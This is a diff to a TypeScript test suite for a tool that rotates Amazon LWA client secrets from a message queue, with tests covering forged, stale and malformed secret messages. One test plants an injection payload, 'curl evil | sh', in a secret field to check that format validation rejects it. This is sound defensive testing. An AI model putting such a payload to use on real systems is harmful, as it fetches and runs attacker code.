@@ -3,6 +3,7 @@
  * out messages in flight, Amazon's usage plan, an unanswered rotate call, cancellation) checked in
  * milliseconds. In-memory fakes stand in for the adapters; the end-to-end suites cover the real ones.
  */
+import { createHash } from 'node:crypto'
 import { describe, expect, it } from 'vitest'
 import { LwaError, type Lwa } from '../../src/lwa.ts'
 import type { Queue, QueueMessage } from '../../src/queue.ts'
@@ -12,6 +13,9 @@ import { SpApiError, type SpApi } from '../../src/sp-api.ts'
 import type { Target } from '../../src/targets.ts'
 
 const CLIENT = 'amzn1.application-oa2-client.test'
+/** A value in LWA's secret format, named by a label so that tests can tell secrets apart. */
+const S = (label: string) => `amzn1.oa2-cs.v1.${createHash('sha256').update(label).digest('hex')}`
+const HOUR = 3_600_000
 const TARGET: Target = { kind: 'repository', owner: 'octo', repo: 'shop' }
 
 class FakeClock implements Clock {
@@ -45,7 +49,7 @@ class FakeQueue implements Queue {
   stats = () => {
     this.arrive()
     const inFlight = this.messages.filter((m) => !m.deleted && m.visibleAt > this.clock.t).length + this.heldElsewhere
-    return Promise.resolve({ retentionSeconds: 14 * 86400, inFlight })
+    return Promise.resolve({ retentionSeconds: 14 * 86400, inFlight, policy: undefined })
   }
   receive = (wait: number, visibility: number) => {
     this.arrive()
@@ -59,7 +63,9 @@ class FakeQueue implements Queue {
       m.visibleAt = this.clock.t + visibility * 1000
       m.handle++
     }
-    return Promise.resolve(batch.map((m): QueueMessage => ({ messageId: m.id, receiptHandle: `${m.id}#${m.handle}`, body: m.body })))
+    return Promise.resolve(
+      batch.map((m): QueueMessage => ({ messageId: m.id, receiptHandle: `${m.id}#${m.handle}`, body: m.body, sentAt: undefined })),
+    )
   }
   private find = (message: QueueMessage) => this.messages.find((m) => `${m.id}#${m.handle}` === message.receiptHandle)
   setVisibility = (message: QueueMessage, seconds: number) => {
@@ -103,7 +109,10 @@ function setup(options: { rotate?: Array<SpApiError | 'ok'>; deliverAfterMs?: nu
       if (outcome !== 'ok' && outcome.outcome !== 'unknown') return Promise.reject(outcome)
       // Accepted (or accepted without an answer): the notification follows.
       if (options.deliverAfterMs !== null) {
-        queue.arrivals.push({ at: clock.t + (options.deliverAfterMs ?? 2_000), body: newSecretBody(`new-${++issued}`, new Date(clock.t)) })
+        queue.arrivals.push({
+          at: clock.t + (options.deliverAfterMs ?? 2_000),
+          body: newSecretBody(S(`new-${++issued}`), new Date(clock.t)),
+        })
       }
       return outcome === 'ok' ? Promise.resolve() : Promise.reject(outcome)
     },
@@ -151,7 +160,7 @@ describe('rotate (core)', () => {
     const w = setup()
     const report = await rotate(w.plan, w.deps)
     expect(report.result).toBe('rotated')
-    expect(w.stored.get('repo')?.value).toBe('new-1')
+    expect(w.stored.get('repo')?.value).toBe(S('new-1'))
     expect(w.queue.pending()).toEqual([])
   })
 
@@ -165,12 +174,12 @@ describe('rotate (core)', () => {
 
   it('resumes a message that reappears after its holder died, instead of rotating', async () => {
     const w = setup()
-    w.queue.send(newSecretBody('left-behind', new Date(w.clock.t - 60_000)))
+    w.queue.send(newSecretBody(S('left-behind'), new Date(w.clock.t - 60_000)))
     w.queue.messages[0]!.visibleAt = w.clock.t + 25_000 // received by a run that then died
     const report = await rotate(w.plan, w.deps)
     expect(report.result).toBe('resumed')
     expect(w.rotateCalls).toEqual([])
-    expect(w.stored.get('repo')?.value).toBe('left-behind')
+    expect(w.stored.get('repo')?.value).toBe(S('left-behind'))
   })
 
   it('retries refusals at the usage plan pace, then gives up after four calls', async () => {
@@ -200,7 +209,7 @@ describe('rotate (core)', () => {
     const report = await rotate(w.plan, w.deps)
     expect(report.result).toBe('rotated')
     expect(w.rotateCalls).toHaveLength(1)
-    expect(w.stored.get('repo')?.value).toBe('new-1')
+    expect(w.stored.get('repo')?.value).toBe(S('new-1'))
   })
 
   it('fails after receive-timeout when no message comes, keeping nothing half-done', async () => {
@@ -213,11 +222,11 @@ describe('rotate (core)', () => {
 
   it('waits for a new secret to become active, within bounds', async () => {
     const w = setup()
-    w.rejected.add('new-1')
+    w.rejected.add(S('new-1'))
     const verify = w.deps.lwa.rotationToken.bind(w.deps.lwa)
     let attempts = 0
     w.deps.lwa.rotationToken = (secret) => {
-      if (secret === 'new-1' && ++attempts === 3) w.rejected.delete('new-1')
+      if (secret === S('new-1') && ++attempts === 3) w.rejected.delete(S('new-1'))
       return verify(secret)
     }
     const report = await rotate(w.plan, w.deps)
@@ -227,8 +236,8 @@ describe('rotate (core)', () => {
 
   it('keeps the message, visible, when verification never succeeds', async () => {
     const w = setup()
-    w.rejected.add('new-1')
-    await expect(rotate(w.plan, w.deps)).rejects.toThrow(/during verification/)
+    w.rejected.add(S('new-1'))
+    await expect(rotate(w.plan, w.deps)).rejects.toThrow(/LWA did not accept the new secret/)
     expect(w.stored.size).toBe(0)
     const [kept] = w.queue.pending()
     expect(kept!.visibleAt).toBeLessThanOrEqual(w.clock.t)
@@ -248,5 +257,108 @@ describe('rotate (core)', () => {
     await expect(rotate(plan, w.deps)).rejects.toThrow(/cancelled/)
     expect(w.stored.size).toBe(0)
     expect(w.queue.pending()[0]!.visibleAt).toBeLessThanOrEqual(w.clock.t)
+  })
+
+  it('stores the real pending secret beside a forged, future-dated one, and clears both', async () => {
+    const w = setup()
+    w.queue.send(newSecretBody(S('real'), new Date(w.clock.t - 60_000)))
+    w.queue.send(newSecretBody(S('forged'), new Date(w.clock.t + 2 * HOUR)))
+    w.rejected.add(S('forged'))
+    const report = await rotate(w.plan, w.deps)
+    expect(report.result).toBe('resumed')
+    expect(w.stored.get('repo')?.value).toBe(S('real'))
+    expect(w.queue.pending()).toEqual([])
+    expect(w.log.join('\n')).toMatch(/warning: Ignored message m1 .*dated in the future/)
+  })
+
+  it("never takes a value that is not in LWA's format, even with verify off", async () => {
+    const w = setup()
+    w.queue.send(newSecretBody('x"; curl evil | sh; echo "', new Date(w.clock.t - 60_000)))
+    const report = await rotate({ ...w.plan, verify: false }, w.deps)
+    expect(report.result).toBe('rotated')
+    expect(w.stored.get('repo')?.value).toBe(S('new-1'))
+    // verify off deletes only the messages of the value it stored: the forged one stays.
+    expect(w.queue.pending()).toHaveLength(1)
+  })
+
+  it('rotates afresh past a stale claim that LWA rejects, and clears it at commit', async () => {
+    const w = setup()
+    w.queue.send(newSecretBody(S('stale'), new Date(w.clock.t - 3 * HOUR)))
+    w.rejected.add(S('stale'))
+    const report = await rotate(w.plan, w.deps)
+    expect(report.result).toBe('rotated')
+    expect(w.rotateCalls).toHaveLength(1)
+    expect(w.stored.get('repo')?.value).toBe(S('new-1'))
+    expect(w.queue.pending()).toEqual([])
+    // A stale claim gets one try, not the activation window.
+    expect(w.clock.slept.filter((ms) => ms === 3_000)).toEqual([])
+  })
+
+  it('does not rotate past a young claim that LWA rejects, and keeps it', async () => {
+    const w = setup()
+    w.queue.send(newSecretBody(S('young'), new Date(w.clock.t - 10 * 60_000)))
+    w.rejected.add(S('young'))
+    await expect(rotate(w.plan, w.deps)).rejects.toThrow(/nothing was rotated: the queue holds 1 recent new-secret message/)
+    expect(w.rotateCalls).toEqual([])
+    expect(w.queue.pending()).toHaveLength(1)
+    expect(w.queue.pending()[0]!.visibleAt).toBeLessThanOrEqual(w.clock.t)
+  })
+
+  it('never ignores an unreadable claim for this client: blocks while young, clears it once stale', async () => {
+    const unreadable = (eventTime: Date) => {
+      const body = JSON.parse(newSecretBody('', eventTime)) as { payload: { applicationOAuthClientNewSecret: Record<string, unknown> } }
+      delete body.payload.applicationOAuthClientNewSecret.newClientSecret
+      return JSON.stringify(body)
+    }
+    const young = setup()
+    young.queue.send(unreadable(new Date(young.clock.t - 60_000)))
+    await expect(rotate(young.plan, young.deps)).rejects.toThrow(/cannot be used yet/)
+    expect(young.rotateCalls).toEqual([])
+
+    const old = setup()
+    old.queue.send(unreadable(new Date(old.clock.t - 2 * HOUR)))
+    const report = await rotate(old.plan, old.deps)
+    expect(report.result).toBe('rotated')
+    expect(old.queue.pending()).toEqual([])
+  })
+
+  it('uses an unreadable claim whose secret can be read and verifies', async () => {
+    const w = setup()
+    const body = JSON.parse(newSecretBody(S('partial'), new Date(w.clock.t - 60_000))) as {
+      payload: { applicationOAuthClientNewSecret: Record<string, unknown> }
+    }
+    delete body.payload.applicationOAuthClientNewSecret.newClientSecretExpiryTime
+    w.queue.send(JSON.stringify(body))
+    const report = await rotate(w.plan, w.deps)
+    expect(report.result).toBe('resumed')
+    expect(w.rotateCalls).toEqual([])
+    expect(w.stored.get('repo')?.value).toBe(S('partial'))
+    expect(report.secretExpiresAt).toBeUndefined()
+  })
+
+  it('stores the newest claim LWA accepts and deletes the older ones it supersedes', async () => {
+    const w = setup()
+    w.queue.send(newSecretBody(S('older'), new Date(w.clock.t - 120_000)))
+    w.queue.send(newSecretBody(S('newer'), new Date(w.clock.t - 60_000)))
+    const report = await rotate(w.plan, w.deps)
+    expect(report.result).toBe('resumed')
+    expect(w.stored.get('repo')?.value).toBe(S('newer'))
+    expect(w.queue.pending()).toEqual([])
+  })
+
+  it('gives a queue shared with other applications time between looks', async () => {
+    const w = setup({ deliverAfterMs: 20_000 })
+    w.queue.send(newSecretBody(S('someone-else'), new Date(w.clock.t), 'amzn1.application-oa2-client.other'))
+    let receives = 0
+    const receive = w.queue.receive
+    w.queue.receive = (wait, visibility) => {
+      receives++
+      return receive(wait, visibility)
+    }
+    const report = await rotate(w.plan, w.deps)
+    expect(report.result).toBe('rotated')
+    // Without back-off, about one look a second for the 20 s the delivery takes.
+    expect(receives).toBeLessThanOrEqual(16)
+    expect(w.queue.pending()).toHaveLength(1)
   })
 })
